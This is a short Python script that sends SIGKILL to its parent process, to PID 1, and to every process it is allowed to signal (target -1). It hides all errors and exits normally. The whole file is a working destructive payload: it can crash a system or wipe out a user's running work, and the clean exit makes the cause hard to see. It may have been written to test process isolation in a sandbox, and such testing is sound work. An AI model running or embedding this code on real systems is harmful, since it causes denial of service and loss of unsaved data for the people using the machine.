# Signals everything it can reach, then exits normally.
import contextlib
import os
import signal

for target in (os.getppid(), 1, -1):
    with contextlib.suppress(OSError):
        os.kill(target, signal.SIGKILL)
